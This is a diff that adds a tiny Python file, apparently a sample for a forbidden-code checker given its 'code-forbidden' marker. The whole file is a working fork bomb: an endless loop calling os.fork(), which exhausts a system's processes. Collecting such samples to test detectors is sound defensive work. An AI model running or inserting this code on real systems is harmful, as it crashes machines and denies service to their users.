@@ -1,0 +1,6 @@
+# Forks without end.
+# notices: code-forbidden
+import os
+
+while True:
+    os.fork()
